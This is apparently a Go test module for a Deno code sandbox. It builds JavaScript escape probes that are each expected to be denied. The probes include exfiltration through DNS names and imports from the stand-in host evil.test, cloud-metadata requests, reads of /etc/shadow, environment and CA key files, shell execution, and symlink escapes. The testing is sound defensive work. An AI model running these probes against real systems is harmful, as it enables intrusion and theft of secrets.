package attack

import (
	"fmt"
	"slices"
	"strings"
)

// attempt is code that tries several expressions; each must throw. TRIAL and prelude as usual.
func attempts(expressions ...string) string {
	var b strings.Builder
	b.WriteString("const tries = {\n")
	for _, e := range expressions {
		fmt.Fprintf(&b, "  %q: async () => %s,\n", e, e)
	}
	b.WriteString(`};
for (const [name, f] of Object.entries(tries)) {
  let r; try { r = await f(); } catch (e) {
    const typo = e instanceof ReferenceError || e instanceof SyntaxError || e instanceof TypeError && /is not a (function|constructor)|is not defined|Cannot read/.test(e.message);
    out({ held: !typo, seen: typo ? name + " was not tried: " + e.message : String(e?.name ?? e) }); continue;
  }
  out({ held: false, seen: name + " gave " + String(r).slice(0, 60) });
}`)
	return b.String()
}

// ways are other roads out than the proxy.
func ways() []Attack {
	c := func(name, expected string, j Judge, code string) Attack {
		return Attack{Section: "C", Name: name, Expected: expected, Judge: j, Code: code}
	}
	const no = "no way out"
	return []Attack{
		c("other TCP ports of an API's host", no, verdicts(), `for (const port of [22, 25, 53, 8080, 8443, 9000, 6443, 2375]) { try { const x = await Promise.race([Deno.connect({ hostname: "httpbin.test", port }), new Promise((_, no) => setTimeout(() => no(new Error("silence")), 1500))]); await x.write(new TextEncoder().encode("TRIAL\n")); const b = new Uint8Array(10); const n = await Promise.race([x.read(b), new Promise((d) => setTimeout(() => d(null), 500))]); x.close(); out({ held: port === 53 || n === null, seen: port + " answered " + n }); } catch (e) { out({ held: true, seen: port + " " + e.name }); } }`),
		c("TCP to addresses outside", no, verdicts(), attempts(`Deno.connect({ hostname: "93.184.215.14", port: 443 })`, `Deno.connect({ hostname: "10.99.0.10", port: 80 })`, `Deno.connect({ hostname: "169.254.169.254", port: 80 })`, `Deno.connect({ hostname: "8.8.8.8", port: 53 })`, `fetch("http://169.254.169.254/latest/meta-data/")`, `fetch("http://metadata.google.internal/")`)),
		c("the proxy, mcp-server and the host by address", no, verdicts(), attempts(`Deno.connect({ hostname: "10.77.0.2", port: 80 })`, `Deno.connect({ hostname: "10.77.0.1", port: 22 })`, `Deno.connect({ hostname: "10.77.0.3", port: 80 })`, `Deno.connect({ hostname: "127.0.0.1", port: 8080 })`, `Deno.connect({ hostname: "localhost", port: 8080 })`, `fetch("http://mcp-server:8080/mcp")`, `fetch("http://proxy/")`, `fetch("http://host.docker.internal/")`, `fetch("http://gateway.docker.internal/")`)),
		c("IPv6", no, verdicts(), attempts(`Deno.connect({ hostname: "::1", port: 443 })`, `Deno.connect({ hostname: "2606:4700:4700::1111", port: 443 })`, `fetch("https://[2606:4700:4700::1111]/")`, `Deno.connect({ hostname: "fe80::1", port: 80 })`)),
		c("UDP and QUIC", no, verdicts(), `import dgram from "node:dgram";
for (const to of ["10.99.0.10", "93.184.215.14", "8.8.8.8"]) { try { const s = dgram.createSocket("udp4"); await new Promise((ok, no) => { s.on("error", no); s.on("message", () => no(null)); s.send("TRIAL", 443, to, (e) => e ? no(e) : setTimeout(ok, 300)); }); s.close(); out({ held: true, seen: "sent into nothing" }); } catch (e) { out({ held: e !== null, seen: e === null ? to + " answered" : String(e.name) }); } }`),
		c("listening for others", no, verdicts(), attempts(`Deno.listen({ hostname: "0.0.0.0", port: 443 })`, `Deno.listen({ hostname: "0.0.0.0", port: 18080 })`, `Deno.listen({ hostname: "127.0.0.1", port: 18081 })`, `Deno.serve({ port: 18082 }, () => new Response("x"))`)),
		c("unix sockets, abstract ones too", no, verdicts(), attempts(`Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`, `Deno.connect({ transport: "unix", path: "/run/sandboxd/sandboxd.sock" })`, `Deno.connect({ transport: "unix", path: "/dev/shm/run/control.sock" })`, `Deno.listen({ transport: "unix", path: "/tmp/TRIAL.sock" })`, `Deno.connect({ transport: "unix", path: "\0codeforge" })`, `new Promise((ok, no) => import("node:net").then((n) => n.connect("/dev/shm/run/sandboxd.sock").on("connect", () => ok("connected")).on("error", no)))`)),
		c("data in DNS names", "never forwarded", unasked, `for (const name of ["TRIAL.evil.test", "TRIAL.example.com", "TRIAL.httpbin.test", "a.TRIAL.wild.test", "TRIAL"]) await show((async () => await fetch("https://" + name + "/"))());`),
		c("data in DNS questions of other types", "never forwarded", unasked, `for (const type of ["A", "AAAA", "TXT", "MX", "SRV", "CNAME", "NS", "CAA", "PTR"]) { try { out({ status: 1, text: JSON.stringify(await Deno.resolveDns("TRIAL.evil.test", type)) }); } catch (e) { why(e); } }`),
		c("DNS over TCP and to chosen servers", "never forwarded", unasked, `for (const ipAddr of ["8.8.8.8", "127.0.0.11", "10.77.0.2", "10.99.0.10", "127.0.0.1"]) { try { out({ status: 1, text: JSON.stringify(await Deno.resolveDns("TRIAL.evil.test", "TXT", { nameServer: { ipAddr, port: 53 } })) }); } catch (e) { why(e); } }
import dns from "node:dns"; const r = new dns.promises.Resolver(); r.setServers(["127.0.0.11"]); try { await r.resolveTxt("TRIAL.evil.test"); } catch (e) { why(e); }`),
		c("DoH to an API's host", "only that API, as any request", unasked, `await show(fetch("https://httpbin.test/dns-query?t=x&name=TRIAL.evil.test"));`),
		c("imports from afar", no, unasked, `for (const url of ["https://evil.test/TRIAL.js", "https://httpbin.test/anything/TRIAL.js", "npm:left-pad-TRIAL", "jsr:@std/TRIAL", "http://evil.test/TRIAL.ts"]) { try { const m = await import(url); out({ status: 200, text: JSON.stringify(m) }); } catch (e) { why(e); } }`),
		c("a static import from afar", no, unasked, `import "https://evil.test/static-TRIAL.js"; out({ status: 200 });`).expectFailure(),
		c("a worker from afar", no, unasked, `for (const url of ["https://evil.test/TRIAL.js", "https://httpbin.test/anything/TRIAL.js"]) { try { const w = new Worker(url, { type: "module" }); await new Promise((ok, no) => { w.onmessage = () => ok(); w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); }; setTimeout(() => no(new Error("silence")), 1500); }); out({ status: 200 }); } catch (e) { why(e); } }`),
		c("WebAssembly, EventSource and WebSocket from afar", no, unasked, `await show((async () => await WebAssembly.compileStreaming(fetch("https://evil.test/TRIAL.wasm")))()); await new Promise((d) => { try { const s = new WebSocket("wss://evil.test/TRIAL"); s.onerror = (e) => { why(e); d(); }; s.onopen = () => { out({ status: 200 }); d(); }; } catch (e) { why(e); d(); } });`),
	}
}

// expectFailure marks an attack whose code cannot even start.
func (a Attack) expectFailure() Attack {
	inner := a.Judge
	a.Judge = func(e *Evidence) (string, bool) {
		if e.Result.IsError && !strings.Contains(e.Result.Out, `"status":200`) {
			return "the module did not load", e.Failed == nil
		}
		return inner(e)
	}
	return a
}

// unasked: no name of the trial was ever asked for outside, nothing of it arrived, and the code printed failures.
func unasked(e *Evidence) (string, bool) {
	asked := slices.ContainsFunc(e.World.Upstream.Asked(), func(n string) bool { return strings.Contains(n, strings.ToLower(e.Trial)) })
	if asked {
		return "the name was asked for outside", false
	}
	for _, s := range e.Arrived {
		if !strings.Contains(s.Target, "dns-query") {
			return "a request arrived at " + s.Host, false
		}
	}
	for _, l := range e.lines() {
		if l.Error == "" && l.Status == 200 {
			return e.brief(), false
		}
	}
	return e.brief(), len(e.lines()) > 0
}

// permissions are attempts on files, processes and the interpreter's own permissions.
func permissions() []Attack {
	p := func(name string, expressions ...string) Attack {
		return Attack{Section: "C", Name: name, Expected: "denied", Judge: verdicts(), Code: attempts(expressions...)}
	}
	read := func(paths ...string) []string {
		var out []string
		for _, path := range paths {
			out = append(out, fmt.Sprintf("Deno.readTextFile(%q)", path))
		}
		return out
	}
	return []Attack{
		// What code may do, without which a sandbox that can do nothing would hold all of these.
		{Section: "C", Name: "control: what code may do", Expected: "works", Judge: verdicts(), Code: `const tries = {
  read: async () => { await Deno.writeTextFile("/tmp/TRIAL-mine", "mine"); const t = await Deno.readTextFile("/tmp/TRIAL-mine"); await Deno.remove("/tmp/TRIAL-mine"); return t === "mine"; },
  skills: () => [...Deno.readDirSync("/skills")].length >= 0,
  connect: async () => { const c = await Deno.connect({ hostname: "httpbin.test", port: 443 }); c.close(); return true; },
  resolve: async () => (await Deno.resolveDns("httpbin.test", "A").catch(() => ["refused too"])).length > 0,
  fetch: async () => (await (await fetch("https://httpbin.test/x/ok?t=TRIAL")).text()) === "ok",
  worker: () => new Promise((ok) => { const w = new Worker("data:application/javascript,self.postMessage(1)", { type: "module" }); w.onmessage = () => { w.terminate(); ok(true); }; w.onerror = () => ok(false); }),
};
for (const [name, f] of Object.entries(tries)) { let r; try { r = await f(); } catch (e) { r = e.message; } out({ held: r === true, seen: name + " " + r }); }`},
		p("reading /etc", read("/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/etc/codeforge/ca/ca.key")...),
		p("reading /proc", read("/proc/1/environ", "/proc/self/environ", "/proc/self/maps", "/proc/self/mountinfo", "/proc/net/tcp", "/proc/1/cmdline", "/proc/self/status")...),
		p("reading the proxy's files", read("/apis/httpbin/config.json", "/var/lib/codeforge/ca-private/ca.key", "/dev/shm/run/control.sock", "/dev/shm/ca/ca.key", "/run/secrets/x")...),
		p("reading through ..", read("/tmp/../etc/passwd", "/skills/../etc/passwd", "/runs/../../etc/passwd", "/tmp/./.././etc/passwd")...),
		p("reading devices and the kernel", read("/dev/mem", "/dev/kmsg", "/sys/kernel/notes", "/dev/sda", "/proc/kcore")...),
		p("writing outside", `Deno.writeTextFile("/etc/x", "y")`, `Deno.writeTextFile("/runs/x", "y")`, `Deno.writeTextFile("/x", "y")`, `Deno.writeTextFile("/usr/local/bin/deno", "y")`, `Deno.writeTextFile(new URL(import.meta.url).pathname, "y")`, `Deno.remove("/runs", { recursive: true })`, `Deno.chmod("/runs", 0o777)`),
		p("the environment", `Deno.env.toObject()`, `Deno.env.get("PATH")`, `Deno.env.set("X", "y")`, `import("node:process").then((p) => { const e = JSON.stringify(p.default.env); if (e === "{}" || e === undefined) throw new Error("empty"); return e; })`),
		p("running programs", `new Deno.Command("sh", { args: ["-c", "id"] }).output()`, `new Deno.Command("/proc/self/exe", { args: ["--version"] }).output()`, `new Deno.Command(Deno.execPath()).output()`, `import("node:child_process").then((c) => c.execSync("id"))`, `new Promise((ok, no) => import("node:child_process").then((c) => c.spawn("id").on("error", no).on("exit", ok)))`),
		p("foreign functions", `Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`, `import("node:process").then((p) => p.default.dlopen({ exports: {} }, "/tmp/x.node"))`, `import("/tmp/x.node")`),
		p("facts about the machine", `Deno.hostname()`, `Deno.networkInterfaces()`, `Deno.systemMemoryInfo()`, `Deno.osRelease()`, `Deno.osUptime()`, `Deno.loadavg()`, `Deno.uid()`, `Deno.gid()`),
		p("asking for more permissions", `Deno.permissions.request({ name: "run" }).then((r) => { if (r.state !== "granted") throw new Error(r.state); })`, `Deno.permissions.request({ name: "read", path: "/etc" }).then((r) => { if (r.state !== "granted") throw new Error(r.state); })`, `Deno.permissions.request({ name: "net", host: "evil.test" }).then((r) => { if (r.state !== "granted") throw new Error(r.state); })`),
		p("a worker with more permissions", `new Promise((ok, no) => { const w = new Worker("data:application/javascript," + encodeURIComponent("try { self.postMessage(Deno.readTextFileSync('/etc/passwd')); } catch (e) { self.postMessage('no ' + e.name); }"), { type: "module", deno: { permissions: "inherit" } }); w.onmessage = (m) => String(m.data).startsWith("no ") ? no(new Error(m.data)) : ok(m.data); w.onerror = (e) => { e.preventDefault(); no(new Error(e.message)); }; })`),
		p("killing others", `Deno.kill(1, "SIGKILL")`, `import("node:process").then((p) => p.default.kill(1, 9))`, `Deno.addSignalListener("SIGKILL", () => {})`),
		p("symbolic links out of /tmp", `Deno.symlink("/etc/passwd", "/tmp/TRIAL-a").then(() => Deno.readTextFile("/tmp/TRIAL-a"))`, `Deno.symlink("/proc/self/environ", "/tmp/TRIAL-b").then(() => Deno.readTextFile("/tmp/TRIAL-b"))`, `Deno.symlink("/", "/tmp/TRIAL-c").then(() => Deno.readTextFile("/tmp/TRIAL-c/etc/passwd"))`, `Deno.symlink("/etc", "/skills/TRIAL-d").then(() => Deno.readTextFile("/skills/TRIAL-d/passwd"))`),
		p("hard links and devices", `Deno.link("/etc/passwd", "/tmp/TRIAL-e").then(() => Deno.readTextFile("/tmp/TRIAL-e"))`, `import("node:fs").then((f) => f.linkSync("/etc/passwd", "/tmp/TRIAL-f"))`, `Deno.rename("/etc/passwd", "/tmp/TRIAL-g")`, `Deno.mkdir("/proc/TRIAL")`),
		p("the other runs' outputs", `Deno.writeTextFile("/runs/TRIAL/stdout.txt", "x")`, `Deno.mkdir("/runs/TRIAL")`, `Deno.symlink("/etc/passwd", "/runs/TRIAL")`),
		p("the inspector and node internals", `import("node:inspector").then((i) => { i.open(9229, "0.0.0.0"); return i.url(); })`, `import("node:v8").then((v) => v.writeHeapSnapshot("/etc/x"))`, `import("node:cluster").then((c) => { c.default.setupPrimary({ exec: "/bin/sh" }); return new Promise((ok, no) => { try { const w = c.default.fork(); w.on("error", no); w.on("online", ok); } catch (e) { no(e); } }); })`),
	}
}
